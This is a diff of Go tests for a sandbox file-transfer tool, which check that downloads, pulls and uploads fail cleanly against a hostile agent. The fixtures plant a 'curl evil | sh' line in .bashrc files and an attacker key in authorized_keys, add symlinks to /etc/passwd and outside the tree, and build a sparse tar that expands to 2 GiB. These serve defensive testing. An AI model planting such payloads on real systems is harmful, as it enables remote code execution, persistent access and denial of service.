@@ -88,6 +88,169 @@ func wantEntryErr(t *testing.T, err, sentinel error, entry string) {
 	}
 }
 
+// TestHostileAgentDownload: downloads (cp from the sandbox, pull, the
+// artifacts of a run) from an agent that sends names nobody asked for, a
+// crafted archive, sparse entries, or stalls. Each fails naming the entry,
+// and nothing at or beside the destination changes.
+func TestHostileAgentDownload(t *testing.T) {
+	h := newHostileBox(t, hostile.Scenario{})
+	write(t, h.root, map[string]string{
+		"x/file": "real", "payload/x": "asked for", "payload/.bashrc": "curl evil | sh", "payload/.ssh/authorized_keys": "ssh-ed25519 evil", ".bashrc": "curl evil | sh", ".ssh/authorized_keys": "ssh-ed25519 evil",
+		"rascal-meta/meta.json": "{}", "rascal-meta/.bashrc": "curl evil | sh",
+	})
+	home := t.TempDir()
+	write(t, home, map[string]string{".bashrc": "mine", "keep/a": "a"})
+	before := tree(t, home)
+
+	t.Run("unrequested-name", func(t *testing.T) {
+		for _, extra := range []string{".bashrc", ".ssh"} {
+			h.lie(t, hostile.Scenario{GetExtra: []string{extra}})
+			// Into a directory, names beside payload; as a new name for
+			// payload/x, names beside x. (A new directory takes payload's
+			// contents, all of them asked for.)
+			for _, dst := range []string{home, filepath.Join(home, "renamed")} {
+				src := "payload"
+				if strings.HasSuffix(dst, "renamed") {
+					src = "payload/x" // a file to a new name: PlaceAs
+				}
+				_, err := ferry.Download(ctx(t), h.sb, []string{src}, dst, transfer.Limits{})
+				h.served(t)
+				wantEntryErr(t, err, transfer.ErrUnrequested, extra)
+				sameTree(t, tree(t, home), before)
+			}
+		}
+	})
+	t.Run("pull", func(t *testing.T) {
+		h.lie(t, hostile.Scenario{GetExtra: []string{".bashrc"}})
+		out := filepath.Join(home, "run")
+		_, err := ferry.Pull(ctx(t), h.sb, "", out, transfer.Limits{})
+		h.served(t)
+		wantEntryErr(t, err, transfer.ErrUnrequested, ".bashrc")
+		if _, err := os.Lstat(filepath.Join(out, ".bashrc")); !os.IsNotExist(err) {
+			t.Fatalf("pull placed an unrequested name: %v", err)
+		}
+		os.RemoveAll(out)
+	})
+	t.Run("run", func(t *testing.T) {
+		h.lie(t, hostile.Scenario{GetExtra: []string{".bashrc"}})
+		out := filepath.Join(home, "run")
+		res, err := ferry.Run(ctx(t), h.sb, ferry.RunSpec{Argv: []string{"true"}, Out: out})
+		h.served(t)
+		if err == nil {
+			err = res.PullErr
+		}
+		wantEntryErr(t, err, transfer.ErrUnrequested, ".bashrc")
+		if _, err := os.Lstat(filepath.Join(out, ".bashrc")); !os.IsNotExist(err) {
+			t.Fatalf("run placed an unrequested name: %v", err)
+		}
+		os.RemoveAll(out)
+	})
+	fixtures, err := filepath.Abs(filepath.Join("testdata", "archives"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range append(refused, "unrequested-top-level", "unrequested-root") {
+		t.Run("archive/"+name, func(t *testing.T) {
+			h.lie(t, hostile.Scenario{GetArchive: filepath.Join(fixtures, name+".tar")})
+			dsts := []string{home, filepath.Join(home, "new")}
+			if strings.HasPrefix(name, "unrequested") {
+				// A new directory asks for all of x: only a download into
+				// home asks for x alone.
+				dsts = dsts[:1]
+			}
+			for _, dst := range dsts {
+				_, err := ferry.Download(ctx(t), h.sb, []string{"x"}, dst, transfer.Limits{})
+				h.served(t)
+				var ee *transfer.EntryError
+				if err == nil || (!errors.As(err, &ee) && !errors.Is(err, transfer.ErrTruncated)) {
+					t.Fatalf("err = %v, want a transfer.EntryError naming the entry", err)
+				}
+				sameTree(t, tree(t, home), before)
+			}
+			out := filepath.Join(home, "pulled")
+			if _, err := ferry.Pull(ctx(t), h.sb, "", out, transfer.Limits{}); err == nil {
+				t.Fatal("pull of a crafted archive succeeded")
+			}
+			os.RemoveAll(out)
+			sameTree(t, tree(t, home), before)
+		})
+	}
+	t.Run("sparse-meta", func(t *testing.T) {
+		archive := filepath.Join(t.TempDir(), "sparse-meta.tar")
+		if err := os.WriteFile(archive, sparseMeta(), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		h.lie(t, hostile.Scenario{GetArchive: archive})
+		out := filepath.Join(home, "pulled")
+		_, err := ferry.Pull(ctx(t), h.sb, "", out, transfer.Limits{})
+		h.served(t)
+		wantEntryErr(t, err, transfer.ErrUnsupported, "meta.json")
+		os.RemoveAll(out)
+	})
+	t.Run("stall", func(t *testing.T) {
+		h.lie(t, hostile.Scenario{GetStall: true})
+		sb := h.sb
+		sb.IdleTimeout = 500 * time.Millisecond
+		start := time.Now()
+		_, err := ferry.Download(ctx(t), sb, []string{"payload"}, filepath.Join(home, "new"), transfer.Limits{})
+		h.served(t)
+		if !errors.Is(err, ferry.ErrIdle) {
+			t.Fatalf("err = %v, want ferry.ErrIdle", err)
+		}
+		if d := time.Since(start); d > 20*time.Second {
+			t.Errorf("the stalled download took %v to end", d)
+		}
+		sameTree(t, tree(t, home), before)
+	})
+}
+
+// TestHostileAgentUpload: an agent that reports a tree other than the one
+// it was sent, or stops reading, fails the upload.
+func TestHostileAgentUpload(t *testing.T) {
+	h := newHostileBox(t, hostile.Scenario{PutLie: true})
+	src := t.TempDir()
+	write(t, src, map[string]string{"a/b": "b", "a/c": "c"})
+	_, err := ferry.Upload(ctx(t), h.sb, []string{filepath.Join(src, "a")}, "dst")
+	h.served(t)
+	if !errors.Is(err, transfer.ErrDigest) {
+		t.Fatalf("upload to a lying agent: err = %v, want transfer.ErrDigest", err)
+	}
+	h.lie(t, hostile.Scenario{PutStall: true})
+	sb := h.sb
+	sb.IdleTimeout = 500 * time.Millisecond
+	_, err = ferry.Upload(ctx(t), sb, []string{filepath.Join(src, "a")}, "dst2")
+	h.served(t)
+	if !errors.Is(err, ferry.ErrIdle) {
+		t.Fatalf("upload to a stalled agent: err = %v, want ferry.ErrIdle", err)
+	}
+}
+
+
+// sparseMeta is an archive of one old-GNU sparse meta.json: 512 bytes on
+// the wire, 2 GiB once expanded.
+func sparseMeta() []byte {
+	const size = 2 << 30
+	blk := make([]byte, 512)
+	copy(blk, "meta.json")
+	copy(blk[100:], "0000644\x00")
+	copy(blk[108:], "0000000\x00")
+	copy(blk[116:], "0000000\x00")
+	copy(blk[124:], fmt.Sprintf("%011o\x00", 512))
+	copy(blk[136:], fmt.Sprintf("%011o\x00", 0))
+	blk[156] = 'S'
+	copy(blk[257:265], "ustar  \x00")
+	copy(blk[386:398], fmt.Sprintf("%011o\x00", size-512))
+	copy(blk[398:410], fmt.Sprintf("%011o\x00", 512))
+	copy(blk[483:495], fmt.Sprintf("%011o\x00", size))
+	copy(blk[148:156], "        ")
+	var sum int64
+	for _, c := range blk {
+		sum += int64(c)
+	}
+	copy(blk[148:156], fmt.Sprintf("%06o\x00 ", sum))
+	out := append(blk, bytes.Repeat([]byte("{"), 512)...)
+	return append(out, make([]byte, 1024)...)
+}
 // storeKind is a store the session cases run on.
 type storeKind struct {
 	name string
@@ -203,7 +366,7 @@ func testHostileAgentSession(t *testing.T, sk storeKind) {
 		}
 	}
 	mine := randomBytes(3, 3000)
-	write(t, h.root, map[string]string{"sess/f": string(mine), "sess/one": "x"})
+	write(t, h.root, map[string]string{"sess/f": string(mine), "sess/one": "x", "sess/c0": "0", "sess/c1": "1", "sess/c2": "2", "sess/c3": "3"})
 	if err := os.WriteFile(filepath.Join(h.root, "sess", "zeros"), make([]byte, 8<<20), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -224,7 +387,7 @@ func testHostileAgentSession(t *testing.T, sk storeKind) {
 			t.Fatalf("err = %v, want it to name %q", err, entry)
 		}
 		if after := objects(t, b); !sameObjects(before, after) {
-			t.Fatalf("a refused save changed the store: %d objects before, %d after", len(before), len(after))
+			t.Fatalf("a refused save changed or added to the store's snapshots: %d objects before, %d after", len(before), len(after))
 		}
 		victimIntact(t)
 	}
@@ -239,11 +402,11 @@ func testHostileAgentSession(t *testing.T, sk storeKind) {
 		absent1, absent2 := sha256.Sum256([]byte("absent-1")), sha256.Sum256([]byte("absent-2"))
 		log := filepath.Join(t.TempDir(), "reads")
 		ids := []string{hexID(id1), hexID(absent1), hexID(id2), hexID(absent2)}
-		var chunks []hostile.Chunk
-		for _, id := range ids {
-			chunks = append(chunks, hostile.Chunk{ID: id, Size: 750})
+		var claims []hostile.Claim
+		for i, id := range ids {
+			claims = append(claims, hostile.Claim{Path: fmt.Sprintf("c%d", i), Chunks: []hostile.Chunk{{ID: id, Size: 750}}})
 		}
-		refused(t, hostile.Scenario{Log: log, Claims: []hostile.Claim{{Path: "f", Chunks: chunks}}}, nil, "")
+		refused(t, hostile.Scenario{Log: log, Claims: claims}, nil, "")
 		got, err := os.ReadFile(log)
 		if err != nil {
 			t.Fatalf("the host asked the agent for no chunk: %v", err)
@@ -255,18 +418,18 @@ func testHostileAgentSession(t *testing.T, sk storeKind) {
 		}
 	})
 	t.Run("manifest-bomb", func(t *testing.T) {
-		refused(t, hostile.Scenario{Repeats: []hostile.Repeat{{Path: "one", Count: 200_000}}}, nil, "one")
+		refused(t, hostile.Scenario{Repeats: []hostile.Repeat{{Path: "one", Count: 200_000}}}, session.ErrAgent, "one")
 	})
 	t.Run("huge-file", func(t *testing.T) {
 		// zeros is cut at the chunker's maximum: its first chunk, repeated,
 		// claims a file over the restore's 16 GiB limit.
-		refused(t, hostile.Scenario{Repeats: []hostile.Repeat{{Path: "zeros", Size: 17 << 30}}}, nil, "zeros")
+		refused(t, hostile.Scenario{Repeats: []hostile.Repeat{{Path: "zeros", Size: 17 << 30}}}, transfer.ErrLimit, "zeros")
 	})
 	t.Run("absolute-symlink", func(t *testing.T) {
-		refused(t, hostile.Scenario{Extra: []hostile.Entry{{Path: "~link", Kind: "symlink", Mode: 0o777, Target: "/etc/passwd"}}}, nil, "~link")
+		refused(t, hostile.Scenario{Extra: []hostile.Entry{{Path: "~link", Kind: "symlink", Mode: 0o777, Target: "/etc/passwd"}}}, transfer.ErrLinkEscape, "~link")
 	})
 	t.Run("escaping-symlink", func(t *testing.T) {
-		refused(t, hostile.Scenario{Extra: []hostile.Entry{{Path: "~link", Kind: "symlink", Mode: 0o777, Target: "../../outside"}}}, nil, "~link")
+		refused(t, hostile.Scenario{Extra: []hostile.Entry{{Path: "~link", Kind: "symlink", Mode: 0o777, Target: "../../outside"}}}, transfer.ErrLinkEscape, "~link")
 	})
 	t.Run("wide-zstd-window", func(t *testing.T) {
 		// Frames whose window the store's reader refuses are checked with
@@ -289,12 +452,17 @@ func testHostileAgentSession(t *testing.T, sk storeKind) {
 	})
 }
 
-func sameObjects(a, b map[string]string) bool {
-	if len(a) != len(b) {
-		return false
+// sameObjects reports whether the store after holds every object of
+// before as it was, and no snapshot more: a failed save may leave chunks
+// no snapshot references (prune removes them), nothing else.
+func sameObjects(before, after map[string]string) bool {
+	for k, v := range before {
+		if after[k] != v {
+			return false
+		}
 	}
-	for k, v := range a {
-		if b[k] != v {
+	for k := range after {
+		if _, ok := before[k]; !ok && strings.HasPrefix(k, "snapshots/") {
 			return false
 		}
 	}
